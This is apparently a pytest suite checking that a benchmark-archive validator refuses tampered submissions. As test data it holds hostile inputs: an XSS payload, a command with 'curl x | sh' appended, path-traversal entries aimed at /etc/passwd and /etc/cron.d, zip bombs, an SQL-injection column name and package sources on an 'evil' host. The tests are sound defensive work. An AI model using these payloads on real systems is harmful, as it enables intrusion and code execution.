"""Tampered submissions: each is refused in one sentence that names what is wrong, or its tampering is shown."""

from __future__ import annotations

import gzip
import io
import json
import os
import re
import tarfile
import zipfile
from pathlib import Path

import pytest
import tomli_w
from published_study import CLEAN, PROVED, Hostile, study, submission

from framework_compare.archive import documents, entries, publish, scrub, site, validate
from framework_compare.archive.documents import MANIFEST, PARITY, RECORDS, REQUEST, STUDY

SCRIPT = "</script><img src=x onerror=window.broken=1>"
BOMB = 10_000_000
GUIDE = Path(__file__).parent.parent / "docs" / "archive.md"


@pytest.fixture(scope="module")
def honest(tmp_path_factory):
    place = tmp_path_factory.mktemp("honest")
    with pytest.MonkeyPatch.context() as patch:
        return submission(study(place / "s"), place / "out", patch)


@pytest.fixture
def hostile(honest, tmp_path):
    (tmp_path / "archive").mkdir()
    return Hostile(honest, tmp_path / "archive")


def only_result(folder):
    (result,) = validate.validate(folder.parent)
    return result


def test_an_honest_submission_is_valid(hostile):
    assert only_result(hostile.folder).refused == ""
    hostile.seal()
    assert only_result(hostile.folder).refused == "", "what the tests do to seal is itself no tampering"


def raw(name, text):
    return lambda one: one.write(name, text, sealed=name != MANIFEST)


def change(name, *path, to):
    return lambda one: one.change(name, *path, to=to)


def of_file(name, old, new):
    """Replace text in a file, and seal."""

    def tamper(one):
        text = (one.folder / name).read_text()
        assert old in text
        one.write(name, text.replace(old, new, 1), sealed=name != MANIFEST)

    return tamper


def unsealed(name, old, new):
    def tamper(one):
        text = (one.folder / name).read_text()
        one.write(name, text.replace(old, new, 1), sealed=False)

    return tamper


def link(one):
    (one.folder / PARITY).unlink()
    os.symlink("/etc/hostname", one.folder / PARITY)


def hard_link(one):
    os.link(one.folder / PARITY, one.folder.parent.parent / "elsewhere")


def fifo(one):
    (one.folder / PARITY).unlink()
    os.mkfifo(one.folder / PARITY)


def linked_folder(one):
    target = one.folder.rename(one.folder.parent.parent / one.folder.name)
    one.folder.symlink_to(target, target_is_directory=True)


def zip_file(one):
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w", zipfile.ZIP_DEFLATED) as made:
        made.writestr("records.json", b"0" * BOMB)
    one.write_bytes("records.zip", file.getvalue())


def tar_file(one):
    file = io.BytesIO()
    with tarfile.open(fileobj=file, mode="w:gz") as made:
        info = tarfile.TarInfo("../../etc/cron.d/x")
        made.addfile(info, io.BytesIO(b""))
    one.write_bytes("locks.tar.gz", file.getvalue())


def executable(one):
    (one.folder / STUDY).chmod(0o755)


def halve_turns(one):
    records = one.read(RECORDS)
    slices = records["tables"]["slice"]
    run = slices["run_id"][0]
    slices["measured_s"] = [s / 2 if n == run else s for n, s in zip(slices["run_id"], slices["measured_s"])]
    one.write(RECORDS, records)


def of_machine(one, name, value):
    for file in (RECORDS, STUDY):
        document = one.read(file)
        document["machine"][name] = value
        one.write(file, document)


def drop_slow_block(one):
    records = one.read(RECORDS)
    run = records["tables"]["run"]
    run["status"] = ["failed" if n == 0 else status for n, status in enumerate(run["status"])]
    one.write(RECORDS, records)


def better_verdict(one):
    document = one.read(STUDY)
    document["verdicts"][0].update(ratio=3.0, low=2.5, high=3.5)
    one.write(STUDY, document)


def swap_winner(one):
    document = one.read(STUDY)
    verdict = document["verdicts"][0]
    verdict["faster"], verdict["slower"] = verdict["slower"], verdict["faster"]
    one.write(STUDY, document)


def no_verdicts(one):
    document = one.read(STUDY)
    document["verdicts"] = []
    one.write(STUDY, document)


def claim_parity(one):
    parity = one.read(PARITY)
    for verdict in parity.values():
        verdict.update(parity="0-5", parity_status="failed")
    one.write(PARITY, parity)


def hide_unverified(one):
    one.write(PARITY, {})
    document = one.read(STUDY)
    for cell in document["cells"]:
        cell.update(parity=None, parity_status=None)
    for verdict in document["verdicts"]:
        verdict["verified"] = False
        verdict["sentence"] += " (not verified)"
    one.write(STUDY, document)


def hide_disturbance(one):
    records = one.read(RECORDS)
    records["tables"]["epoch"]["disturbed"] = [1] * len(records["tables"]["epoch"]["disturbed"])
    one.write(RECORDS, records)


def shift(table, column, by, run=None):
    def tamper(one):
        records = one.read(RECORDS)
        columns = records["tables"][table]
        runs = columns["run_id"]
        columns[column] = [v + by if run in (None, n) else v for n, v in zip(runs, columns[column])]
        one.write(RECORDS, records)

    return tamper


def column(table, name, value):
    def tamper(one):
        records = one.read(RECORDS)
        columns = records["tables"][table]
        columns[name] = [value] * len(next(iter(columns.values())))
        one.write(RECORDS, records)

    return tamper


def times(text):
    return column("run", "started_at", text)


def deep(one):
    one.write(STUDY, '{"cells": ' + "[" * 100_000 + "]" * 100_000 + "}")


def rather_deep(one):
    document = one.read(STUDY)
    document["machine"]["x"] = json.loads("[" * 20 + "]" * 20)
    one.write(STUDY, document)


def twice(one):
    text = (one.folder / STUDY).read_text()
    one.write(STUDY, text.replace('"schema_version"', '"labels": [], "schema_version"', 1))


def twice_in_manifest(one):
    text = (one.folder / MANIFEST).read_text()
    one.write(MANIFEST, text.replace('"license"', '"license": "mine", "license"', 1), sealed=False)


def encoded(encoding):
    return lambda one: one.write_bytes(STUDY, (one.folder / STUDY).read_text().encode(encoding))


def lock(text):
    return raw("locks/torch.txt", text)


def rename(slug):
    def tamper(one):
        one.change(MANIFEST, "id", to=f"{slug}-x")
        one.seal()
        one.folder = one.folder.rename(one.folder.parent / one.read(MANIFEST)["id"])

    return tamper


def without(table):
    """Take the witnesses of how long epochs lasted away, and halve the epochs of one run."""

    def change_records(records):
        records["tables"][table] = {}
        epochs = records["tables"]["epoch"]
        times = zip(epochs["run_id"], epochs["start_ns"], epochs["end_ns"])
        epochs["end_ns"] = [(start + end) // 2 if run == 1 else end for run, start, end in times]

    return change_records


def package_named(name):
    def tamper(one):
        records = one.read(RECORDS)
        records["environments"]["torch"]["packages"][name] = "1"
        one.write(RECORDS, records)

    return tamper


def recomputed(tamper):
    """Tamper with the records, and make every figure and interval again, as somebody with this package can."""

    def whole(one):
        tamper(one)
        one.write(STUDY, publish.figures(one.read(RECORDS), one.read(PARITY), one.read(MANIFEST)["id"]))

    return whole


def on_records(change_records):
    def tamper(one):
        records = one.read(RECORDS)
        change_records(records)
        one.write(RECORDS, records)

    return tamper


def swap_labels(records):
    """Each framework gets the other's runs, whose versions differ."""
    run, cell = records["tables"]["run"], records["tables"]["cell"]
    records["environments"]["jax"]["version"] = "0.10.2"
    jax = [number for number, name in zip(cell["cell_id"], cell["framework"]) if name == "jax"]
    run["framework_version"] = ["0.10.2" if number in jax else "2.13.0" for number in run["cell_id"]]
    cell["framework"] = cell["framework"][::-1]


def leave_block_out(records):
    run = records["tables"]["run"]
    run["repeat"] = [4 if number == 3 else number for number in run["repeat"]]


def let_others_pass(records):
    records["settings"]["disturbance_threshold"] = 2.0


def shorten_turns(share):
    def change_records(records):
        slices = records["tables"]["slice"]
        turns, run = zip(slices["run_id"], slices["measured_s"]), slices["run_id"][0]
        slices["measured_s"] = [length * share if number == run else length for number, length in turns]

    return change_records


def name_other_code(one):
    manifest, other = one.read(MANIFEST), "3" * 64
    manifest["measured_by"]["sources"]["torch"], manifest["published_by"]["sources"]["torch"] = [other], other
    one.write(MANIFEST, manifest, sealed=False)


def other_code(tamper):
    """Claim that other code published it, so that its sentences are not compared."""

    def whole(one):
        tamper(one)
        one.change(MANIFEST, "published_by", "checksum", to="2" * 64)

    return whole


def of_command(text):
    """A submission without a request, whose manifest has a command alone."""

    def tamper(one):
        (one.folder / REQUEST).unlink()
        one.seal()
        one.change(MANIFEST, "command", to=text)

    return tamper


def request(**changes):
    asked = {"frameworks": ["torch", "jax"], "models": ["alexnet"], "repeats": 3}
    return raw(REQUEST, tomli_w.dumps({**asked, **changes}))


def allowing(word, tamper):
    def whole(one):
        one.change(MANIFEST, "allowed", to={word: "as it was"})
        tamper(one)

    return whole


def ten_times(table, name):
    def change_records(records):
        records["tables"][table][name] = [10 * value for value in records["tables"][table][name]]

    return change_records


def fail(reason):
    def change_records(records):
        run = records["tables"]["run"]
        run["status"][-1], run["reason"] = "failed", [*[""] * 5, reason]

    return change_records


def leave_last_block_out(records):
    for name, columns in records["tables"].items():
        numbers = columns.get("run_id", [])
        kept = [place for place, number in enumerate(numbers) if number <= 4]
        if name not in ("cell", "node", "part"):
            columns.update({column: [values[place] for place in kept] for column, values in columns.items()})


def void_for_one(records):
    slices = records["tables"]["slice"]
    slices["void"] = [
        "others took CPU time" if run == 1 and n == 3 else "" for run, n in zip(slices["run_id"], slices["round"])
    ]


def void_for_all(records):
    slices = records["tables"]["slice"]
    slices["void"] = ["others took CPU time" if number == 3 else "" for number in slices["round"]]


def deny_turns(records):
    """All runs trained at one time, as if none had waited for another."""
    tables = records["tables"]
    tables["slice"], tables["run"]["duel"] = {}, [None] * 6
    records["settings"]["schedule"] = "sequential"
    first = dict(zip(tables["epoch"]["run_id"][::-1], tables["epoch"]["start_ns"][::-1]))
    for table in (tables["phase"], tables["epoch"]):
        for name in ("start_ns", "end_ns"):
            table[name] = [value - first[run] + first[1] for run, value in zip(table["run_id"], table[name])]


def name_like_another(records):
    cell = records["tables"]["cell"]
    cell["framework"] = ["t\u043erch" if name == "torch" else name for name in cell["framework"]]


def gpu_of(memory_bytes):
    def change_records(records):
        devices = [{"name": "A GPU", "memory_bytes": 80 * 10**9, "compute_capability": "9.0"}]
        records["machine"]["gpus"] = {"driver": "580.1", "devices": devices}
        sample = records["tables"]["sample"]
        sample["gpu_memory_bytes"] = [memory_bytes] * len(sample["run_id"])

    return change_records


def gzip_records(one):
    (one.folder / RECORDS).write_bytes(gzip.compress(b"0" * BOMB))
    one.seal()


TAMPERINGS = {
    # files
    "a link to a file of the host": (link, "links are not allowed"),
    "a hard link": (hard_link, "is a link"),
    "a pipe that would wait for ever": (fifo, "not a plain file"),
    "a link in place of the folder": (linked_folder, "neither an archive file nor a link"),
    "a zip bomb beside the files": (zip_file, "is not a file of a submission"),
    "a zip bomb in place of a file": (gzip_records, "not UTF-8"),
    "a tar file with a path outside": (tar_file, "is not a file of a submission"),
    "an executable file": (executable, "is executable"),
    "a script": (raw("run.py", "import os"), "is not a file of a submission"),
    "a pickle": (raw("weights.pkl", "x"), "is not a file of a submission"),
    "a hidden file": (raw(".bashrc", "x"), "is not a file of a submission"),
    "a lock that leaves the folder": (raw("locks/..txt", "x==1"), "is not a file of a submission"),
    "a script among the locks": (raw("locks/setup.py", "x"), "is not a file of a submission"),
    "a file that is missing": (lambda one: (one.folder / PARITY).unlink(), "manifest lists"),
    "a file that is not listed": (lambda one: one.write("locks/more.txt", "", sealed=False), "manifest lists"),
    "a request of 10 MB": (raw(REQUEST, "x = 1\n" * (BOMB // 6)), "bytes; allowed: 65536"),
    # checksums and ids
    "a figure altered": (unsealed(STUDY, '"epoch_s_median": 1.', '"epoch_s_median": 0.'), "checksum differs"),
    "a checksum that is not text": (change(MANIFEST, "files", STUDY, "sha256", to=5), "sha256"),
    "a path of the manifest outside": (
        change(MANIFEST, "files", "../../etc/passwd", to={"sha256": "0" * 64, "bytes": 1}),
        "manifest lists",
    ),
    "another id than the folder": (
        change(MANIFEST, "id", to="torch-jax-000000000000"),
        "is not the name of its folder",
    ),
    "an id with a path": (change(MANIFEST, "id", to="../x"), "path|is not the name"),
    "a field more in the manifest": (change(MANIFEST, "admin", to=True), "must have exactly"),
    "another licence": (change(MANIFEST, "license", to="all rights reserved"), "license"),
    "a newer schema": (change(MANIFEST, "schema_version", to=2), "schema_version"),
    "a schema that is true": (change(MANIFEST, "schema_version", to=True), "schema_version"),
    "a command with another behind it": (
        change(MANIFEST, "command", to="framework-compare run torch alexnet; curl x | sh"),
        "its command",
    ),
    "another command": (change(MANIFEST, "command", to="curl x"), "its command"),
    "markup in the manifest": (change(MANIFEST, "published_at", to=SCRIPT), "markup"),
    # figures, sealed as an attacker would
    "a ratio altered": (better_verdict, "not what its stored rounds give: verdicts"),
    "winner and loser swapped": (swap_winner, "not what its stored rounds give"),
    "verdicts left out": (no_verdicts, "has 0 entries instead of 1"),
    "a median altered": (change(STUDY, "cells", 0, "epoch_s_median", to=0.5), "epoch_s_median is 0.5"),
    "an interval narrowed": (change(STUDY, "cells", 0, "epoch_s_ci_high", to=1.0), "epoch_s_ci_high"),
    "memory altered": (change(STUDY, "cells", 0, "peak_rss_bytes", to=1), "peak_rss_bytes"),
    "another machine in the document": (change(STUDY, "machine", "cpu", to="Apple M9"), "machine.cpu"),
    "another version in the document": (change(STUDY, "cells", 0, "framework_version", to="9.9"), "framework_version"),
    "a column more": (change(STUDY, "cells", 0, "score", to=100), "'score' of cells"),
    "rounds halved in the records": (halve_turns, "not what its stored rounds give"),
    "a block declared failed": (drop_slow_block, "not what its stored rounds give"),
    "parity claimed against its status": (claim_parity, "levels '0-5' and the status 'failed'"),
    "parity removed and not stated": (hide_unverified, "does not say so"),
    "disturbances in the records alone": (hide_disturbance, "0 disturbed epochs, and 3 are marked"),
    # records
    "a table more": (change(RECORDS, "tables", "sqlite_master", to={"x": [1]}), "has a table"),
    "a column with SQL": (change(RECORDS, "tables", "run", "x); DROP TABLE run; --", to=[1] * 6), "has a column"),
    "columns of unequal length": (change(RECORDS, "tables", "run", "wall_s", to=[1.0]), "differ in length"),
    "text in place of a time": (column("epoch", "start_ns", "now"), "unsound rows|is damaged"),
    "rounds of no run": (shift("slice", "run_id", 1000), "belongs to no run|holds no study"),
    "an unknown setting": (change(RECORDS, "tables", "cell", "config", 0, to={"x": 1}), "is damaged|unsound|differ"),
    "records that are a list": (raw(RECORDS, "[]"), "is not an object"),
    "settings that are text": (change(RECORDS, "settings", to="x"), "must have settings"),
    # plausibility
    "runs of the future": (times("2100-01-01T00:00:00+00:00"), "started_at|in the future"),
    "an epoch outside its run": (shift("epoch", "start_ns", -(10**15), run=1), "3 unsound rows: its start_ns is -"),
    "rounds longer than their turn": (shift("slice", "measured_s", 100.0), "not what|not plausible"),
    "a machine without cores": (lambda one: of_machine(one, "available_cores", None), "available_cores of the machine"),
    "cores as text": (lambda one: of_machine(one, "available_cores", "8"), "available_cores of its machine is '8'"),
    "memory as text": (lambda one: of_machine(one, "memory_bytes", "much"), "memory_bytes of its machine is 'much'"),
    "more memory than the machine has": (column("phase", "pss_bytes", 10**14), "not what|not plausible"),
    # by somebody who has this package and recomputes every figure
    "frameworks swapped": (recomputed(on_records(swap_labels)), "has the version .* which is that of"),
    "a block left out": (recomputed(on_records(leave_block_out)), "blocks 1, 2, 4"),
    "disturbances let pass": (recomputed(on_records(let_others_pass)), "threshold is 2 cores; usual: 0.4"),
    "more CPU time than all cores have": (recomputed(column("slice", "cpu_s", 100.0)), "s of CPU time in turns of"),
    "other code in the manifest than in the records": (name_other_code, "other code than its records"),
    "a verdict hidden by a reason": (
        other_code(change(STUDY, "verdicts", 0, "reason", to="too few runs")),
        "reason is 'too few runs' instead of ''",
    ),
    "a request for another framework": (
        raw(REQUEST, 'frameworks = ["mxnet", "jax"]\nmodels = ["alexnet"]\n'),
        "does not ask for 'torch'",
    ),
    # JSON
    "NaN": (of_file(STUDY, '"epoch_s_median": 1.', '"epoch_s_median": NaN, "x": 1.'), "NaN"),
    "infinity": (of_file(STUDY, '"epoch_s_median": 1.', '"epoch_s_median": -Infinity, "x": 1.'), "Infinity"),
    "a float without end": (of_file(STUDY, '"epoch_s_median": 1.', '"epoch_s_median": 1e999, "x": 1.'), "any float"),
    "a huge whole number": (of_file(STUDY, '"runs_ok": 3', '"runs_ok": 3' + "0" * 5000), "5001 digits"),
    "a name twice": (twice, "occurs twice"),
    "a name twice in the manifest": (twice_in_manifest, "occurs twice"),
    "deep nesting": (deep, "nested"),
    "rather deep nesting": (rather_deep, "nested"),
    "UTF-16": (encoded("utf-16"), "not UTF-8"),
    "a byte order mark": (encoded("utf-8-sig"), "not JSON"),
    "half of a file": (lambda one: one.write_bytes(STUDY, (one.folder / STUDY).read_bytes()[:500]), "not JSON"),
    "an empty file": (raw(PARITY, ""), "not JSON"),
    "a string of 10 MB": (change(STUDY, "machine", "cpu", to="x" * BOMB), "allowed"),
    "a string of 1 MB": (change(STUDY, "machine", "cpu", to="x" * 1_000_000), "characters; allowed"),
    "a name of 1 MB": (change(STUDY, "machine", "x" * 1_000_000, to=1), "characters; allowed"),
    "text turned round": (change(STUDY, "machine", "cpu", to="abc\u202ecba"), r"U\+202E"),
    "a terminal code": (change(STUDY, "machine", "cpu", to="\x1b[2Jx"), r"U\+001B"),
    "half a surrogate pair": (change(STUDY, "machine", "cpu", to="\ud800"), r"U\+D800"),
    "a path of a user": (change(STUDY, "machine", "cpu", to="see /home/alice/x"), "names the path"),
    # request and locks
    "a request that is not TOML": (raw(REQUEST, "frameworks = ["), "not TOML"),
    "an interpreter in the request": (
        raw(REQUEST, 'frameworks = ["torch"]\nmodels = ["alexnet"]\npython = {torch = "evil"}\n'),
        "neither interpreters",
    ),
    "an index in the request": (
        raw(REQUEST, 'frameworks = ["torch"]\nmodels = ["alexnet"]\n[index]\ntorch = "https://evil"\n'),
        "neither interpreters",
    ),
    "an index in a lock": (lock("--extra-index-url https://evil/simple\n"), "allowed: NAME==VERSION"),
    "a package from elsewhere in a lock": (lock("torch @ https://evil/x.whl\n"), "allowed: NAME==VERSION"),
    "an unpinned package in a lock": (lock("torch>=2\n"), "markup|allowed: NAME==VERSION"),
    "another version in a lock": (lock("torch==0.1\n"), "other versions"),
    "a package more in a lock": (lock("torch==2.13.0+cpu\nevil==1.0\n"), "pins other packages"),
    "an empty lock": (lock(""), "pins other packages"),
    "a checksum of another file in a lock": (
        lock(f"torch==2.13.0+cpu --hash=sha256:{'0' * 64}\nnumpy==2.4.6\n"),
        "has a checksum of 'torch' 2.13.0\\+cpu that no file of that release has",
    ),
    "an index in the command": (
        of_command("framework-compare run torch,jax alexnet --index torch=https://evil/simple"),
        "without an address",
    ),
    "a folder in place of an index in the command": (
        of_command("framework-compare run torch,jax alexnet --index torch=evil"),
        "neither interpreters",
    ),
    "an interpreter in the command": (
        of_command("framework-compare run torch,jax alexnet --python torch=evil"),
        "neither interpreters",
    ),
    "a command beside the request": (
        change(MANIFEST, "command", to="framework-compare run torch,jax alexnet"),
        "allowed beside study.toml",
    ),
    "a command that is no shell's": (of_command("framework-compare run 'torch"), "its command is"),
    "a command of other frameworks": (
        of_command("framework-compare run --frameworks tensorflow,mxnet --models alexnet"),
        "its command does not ask for 'jax'",
    ),
    "a command of more frameworks": (of_command("framework-compare run torch,jax,mxnet alexnet"), "asks for 'mxnet'"),
    "a command of another model": (
        of_command("framework-compare run torch,jax resnet50"),
        "does not ask for 'alexnet'",
    ),
    "a command of another batch size": (
        of_command("framework-compare run torch,jax alexnet --batch-size 4096"),
        "asks for batch_size '4096', and a cell has 16",
    ),
    "a request for another model": (request(models=["resnet50"]), "does not ask for 'alexnet'"),
    "a request for one model more": (request(models=["alexnet", "vgg16"]), "asks for 'vgg16'"),
    "a request for a network of a file": (request(models=["alexnet", "x.py:build"]), "asks for 'a model of its own'"),
    "a request for another batch size": (request(batch_size=4096), "asks for batch_size '4096', and a cell has 16"),
    "a request for more settings": (
        request(precision=["fp32", "bf16"], threads=[1, 2]),
        "more settings than its records",
    ),
    "a request for another device": (request(device="cuda"), "asks for cuda, and a cell ran on 'cpu'"),
    "a request for more blocks": (request(repeats=30), "asks for 30 blocks, and its records have 3"),
    "a request with a key that none has": (request(trust=True), "has 'trust', which no request has"),
    "a request with a value that no setting has": (request(epochs={"a": 1}), "epochs is"),
    "ten times the images": (
        recomputed(on_records(ten_times("epoch", "images"))),
        "has 1000 samples in 10 steps of 16",
    ),
    "ten times the samples of rounds": (
        recomputed(on_records(ten_times("slice", "samples"))),
        "has 300 samples in 3 steps of 16",
    ),
    "a run that failed for no reason": (recomputed(on_records(fail(""))), "is failed for no reason"),
    "a last block left out": (
        allowing("few-blocks", recomputed(on_records(leave_last_block_out))),
        "asks for 3 blocks, and its records have 2",
    ),
    "a round that counts for one framework alone": (
        recomputed(on_records(void_for_one)),
        "counts for one framework and not for another",
    ),
    "turns of two fifths": (recomputed(on_records(shorten_turns(0.4))), "steps of run 1 take"),
    "turns denied": (recomputed(on_records(deny_turns)), "trained at one time and took no turns"),
    "a framework that looks like another": (
        allowing("unverified", recomputed(on_records(name_like_another))),
        "is not named in ASCII",
    ),
    "parameters of another model": (
        recomputed(column("run", "parameters", 5)),
        "has 5 parameters, and alexnet has 5",
    ),
    "a process of 10 TB": (recomputed(column("run", "peak_rss_bytes", 10**13)), "peak_rss_bytes of table run is"),
    "a GPU that holds more than it has": (
        recomputed(on_records(gpu_of(10**12))),
        "gpu_memory_bytes of table sample is",
    ),
    "an id that claims more": (
        rename("torch-is-twice-as-fast"),
        "does not begin with what it compares, torch-jax-alexnet",
    ),
    "rounds taken away, epochs halved": (recomputed(on_records(without("slice"))), "took turns and has no round"),
    "phases taken away": (recomputed(on_records(without("phase"))), "is ok and has no phase"),
    "memory below zero": (recomputed(column("run", "peak_rss_bytes", -5)), "peak_rss_bytes of table run is -5"),
    "published in the future": (change(MANIFEST, "published_at", to="2999-01-01T00:00:00+00:00"), "published_at"),
    "published at no time": (change(MANIFEST, "published_at", to="best ever"), "published_at"),
    "a checksum of the package that is none": (
        change(MANIFEST, "published_by", "checksum", to="x"),
        "must have the SHA-256",
    ),
    "a commit that is none": (change(MANIFEST, "published_by", "commit", to="buy this"), "a full commit or null"),
}


# What only shows when figures are recomputed; all other tamperings stay out of any site.
FIGURES = {
    *("a ratio altered", "winner and loser swapped", "verdicts left out", "a median altered", "an interval narrowed"),
    *("memory altered", "another machine in the document", "another version in the document", "a column more"),
    *("rounds halved in the records", "a block declared failed", "a verdict hidden by a reason"),
    *("a column with SQL", "columns of unequal length", "a table more", "an unknown setting"),
}


def test_there_are_more_than_fifty():
    assert len(TAMPERINGS) > 50


@pytest.mark.parametrize("name", [name for name in TAMPERINGS if name not in FIGURES])
def test_a_site_leaves_it_out_without_recomputing(hostile, name):
    TAMPERINGS[name][0](hostile)
    (result,) = validate.validate(hostile.folder.parent, recompute=False)
    assert result.refused and result.refused.isprintable() and "Traceback" not in result.refused


@pytest.mark.parametrize("name", TAMPERINGS)
def test_it_is_refused_in_one_sentence(hostile, name):
    tamper, says = TAMPERINGS[name]
    tamper(hostile)
    result = only_result(hostile.folder)
    assert result.refused, "it was accepted"
    assert re.search(says, result.refused), result.refused
    assert "\n" not in result.refused and len(result.refused) < 700 and result.refused.isprintable()
    assert "Traceback" not in result.refused


def test_the_code_that_a_manifest_names_has_the_adapters_that_it_names(hostile, monkeypatch):
    monkeypatch.setattr(validate, "installed", lambda: CLEAN)
    monkeypatch.setattr(publish, "installed", lambda: CLEAN)
    assert only_result(hostile.folder).refused == ""
    records, other = hostile.read(RECORDS), ["3" * 64]
    records["environments"]["torch"]["sources"] = other
    hostile.write(RECORDS, records)
    recomputed(lambda one: None)(hostile)
    manifest = hostile.read(MANIFEST)
    manifest["measured_by"]["sources"]["torch"], manifest["published_by"]["sources"]["torch"] = other, other[0]
    hostile.write(MANIFEST, manifest, sealed=False)
    assert "has another adapter of 'torch'" in only_result(hostile.folder).refused


UNSEEN = {
    "rounds shortened by a tenth": recomputed(on_records(shorten_turns(0.9))),
    "rounds called disturbed": recomputed(on_records(void_for_all)),
    "another data set": request(dataset=["PATH/other"]),
    "sentences written by other code": other_code(
        change(STUDY, "verdicts", 0, "sentence", to="torch is 9x faster than jax")
    ),
}


@pytest.mark.parametrize("name", UNSEEN)
def test_what_no_check_finds_is_said_and_shows_no_invented_sentence(hostile, name, tmp_path):
    UNSEEN[name](hostile)
    assert only_result(hostile.folder).refused == "", "a check finds it: say so, and move it to TAMPERINGS"
    site.build(hostile.folder, tmp_path / "site")
    assert not [path for path in (tmp_path / "site").rglob("*.html") if "9x faster" in path.read_text()]
    assert f"- **{name.capitalize()}.**" in GUIDE.read_text()


def test_no_check_finds_that_parity_was_invented(tmp_path, monkeypatch):
    failed = {**PROVED, "parity": "0-1, not 2: fc.weight", "parity_status": "failed"}
    made = submission(study(tmp_path / "s", parity=failed), tmp_path / "out", monkeypatch, ["unverified"])
    (tmp_path / "archive").mkdir()
    one = Hostile(made, tmp_path / "archive")
    one.write(PARITY, dict.fromkeys(one.read(PARITY), PROVED))
    recomputed(lambda one: None)(one)
    one.change(MANIFEST, "allowed", to={})
    assert only_result(one.folder).refused == ""
    assert "- **Invented parity.**" in GUIDE.read_text()


FIELDS = [
    *((STUDY, "machine", name) for name in ("cpu", "os", "kernel")),
    *(
        (STUDY, "cells", 0, name)
        for name in ("framework", "model", "dataset", "framework_version", "warnings", "parity")
    ),
    *((STUDY, "verdicts", 0, name) for name in ("model", "faster", "slower", "sentence", "reason")),
    (STUDY, "framework_compare"),
    (STUDY, "environments", "torch", "version"),
    *((MANIFEST, name) for name in ("command", "published_at", "license")),
    (MANIFEST, "published_by", "commit"),
    (MANIFEST, "measured_by", "version"),
    (RECORDS, "machine", "cpu"),
    (RECORDS, "settings", "framework_compare"),
    (RECORDS, "tables", "run", "reason", 0),
    (RECORDS, "tables", "cell", "framework", 0),
]


@pytest.mark.parametrize("field", FIELDS, ids=lambda field: ".".join(map(str, field)))
def test_markup_is_refused_in_every_field(hostile, field):
    hostile.change(*field, to=SCRIPT)
    assert "markup" in only_result(hostile.folder).refused


def test_a_name_with_markup_is_refused(hostile):
    package_named(SCRIPT)(hostile)
    assert "markup" in only_result(hostile.folder).refused


def test_the_site_writes_its_own_sentence_on_what_a_submission_states(hostile, tmp_path):
    hostile.change(MANIFEST, "allowed", to={"unverified": "all is proved, and torch wins"})
    site.build(hostile.folder.parent, tmp_path / "site")
    page = next((tmp_path / "site" / "submissions").glob("*.html")).read_text()
    assert "parity is not proved for every cell" in page and "torch wins" not in page


def test_no_two_names_share_a_page():
    names = ["x", "X", "x-2", "x~2", "x 2", "x/2", "x" * 80, "x" * 81, "A processor, 2 cores"]
    names += [entries.slug(name) for name in names]
    pages = {f"{entries.slug(name)}{page}" for name in dict.fromkeys(names) for page in ("", "~2", "~3")}
    assert len(pages) == 3 * len(set(names)) and entries.slug("x-2") == "x-2"
    assert all(re.fullmatch("[a-z0-9_.~-]+", page) for page in pages)


@pytest.mark.parametrize("text", ["LD=/usr/lib:/data/customer/x", "C:/Users/alice/x"])
def test_a_path_behind_a_colon_is_a_path(text):
    cleaned = scrub.Scrubber().text(text)
    assert "customer" not in cleaned and "Users" not in cleaned and documents.fault_of(cleaned) == ""
    assert documents.fault_of(text)


def test_two_submissions_of_one_study_are_refused(honest, tmp_path):
    (tmp_path / "archive").mkdir()
    Hostile(honest, tmp_path / "archive")
    second = Hostile(honest, tmp_path / "archive" / "..")
    records = second.read(RECORDS)
    records["machine"]["cpu"] = "Another processor"
    second.write(RECORDS, records)
    second.change(STUDY, "machine", "cpu", to="Another processor")
    second.folder.rename(tmp_path / "archive" / second.folder.name)
    results = list(validate.validate(tmp_path / "archive"))
    assert [bool(one.refused) for one in results].count(True) == 1
    assert "measured once" in next(one.refused for one in results if one.refused)


def shifted(second, by_ns=0):
    """Another clock, date and machine for all runs; by_ns: how much longer each epoch gets."""
    records = second.read(RECORDS)
    records["machine"]["cpu"] = "Another processor"
    for table in records["tables"].values():
        for name in ("start_ns", "end_ns", "t_ns"):
            table.update({name: [value + 10**12 for value in table[name]]} if name in table else {})
    run = records["tables"]["run"]
    run["started_at"] = [text.replace("2026-", "2025-", 1) for text in run["started_at"]]
    records["tables"]["epoch"]["end_ns"] = [value + by_ns for value in records["tables"]["epoch"]["end_ns"]]
    second.write(RECORDS, records)
    recomputed(lambda one: None)(second)


@pytest.mark.parametrize("recompute", [True, False])
def test_a_copy_with_another_clock_date_and_machine_is_no_replication(honest, tmp_path, recompute):
    (tmp_path / "archive").mkdir()
    Hostile(honest, tmp_path / "archive")
    second = Hostile(honest, tmp_path)
    shifted(second)
    second.folder.rename(tmp_path / "archive" / second.folder.name)
    results = [one.refused for one in validate.validate(tmp_path / "archive", recompute=recompute) if one.refused]
    assert len(results) == 1 and "measured once" in results[0]


def test_a_tampered_submission_stays_out_of_the_site_and_is_listed(honest, tmp_path):
    (tmp_path / "archive").mkdir()
    Hostile(honest, tmp_path / "archive")
    other = Hostile(honest, tmp_path)
    (other.folder / STUDY).write_text((other.folder / STUDY).read_text() + " ")
    other.folder.rename(tmp_path / "archive" / "other")
    built = site.build(tmp_path / "archive", tmp_path / "site")
    assert built.submissions == 1 and len(built.refused) == 1
    assert "Left out" in (tmp_path / "site" / "index.html").read_text()


def test_figures_that_cannot_be_shown_keep_no_site_from_being_made(honest, tmp_path):
    (tmp_path / "archive").mkdir()
    Hostile(honest, tmp_path / "archive")
    other = Hostile(honest, tmp_path)
    other.change(STUDY, "cells", 0, to={"status": "ok"})
    other.folder.rename(tmp_path / "archive" / other.folder.name.replace("torch", "x"))
    built = site.build(tmp_path / "archive", tmp_path / "site")
    assert built.submissions == 1 and len(built.refused) == 1
    assert list(documents.MAX_BYTES)


def test_a_file_beside_the_submissions_is_refused(hostile):
    (hostile.folder.parent / "more.zip").write_bytes(b"PK")
    results = list(validate.validate(hostile.folder.parent))
    assert ["is not a folder" in one.refused for one in results].count(True) == 1


@pytest.mark.parametrize("changes", [{"sentence": "x" * 3900}, {"faster": "y" * 3900, "slower": "z" * 3900}], ids=str)
def test_long_texts_make_no_large_page(honest, tmp_path, changes):
    (tmp_path / "archive").mkdir()
    Hostile(honest, tmp_path / "archive")
    other = Hostile(honest, tmp_path)
    document = other.read(STUDY)
    shifted(other, by_ns=1)
    document = {**other.read(STUDY), "verdicts": [{**document["verdicts"][0], **changes}] * 2000}
    other.write(STUDY, document)
    other.folder.rename(tmp_path / "archive" / other.folder.name)
    built = site.build(tmp_path / "archive", tmp_path / "site")
    assert built.submissions + len(built.refused) == 2
    assert not any("manifest" in one.refused or "once" in one.refused for one in built.refused)
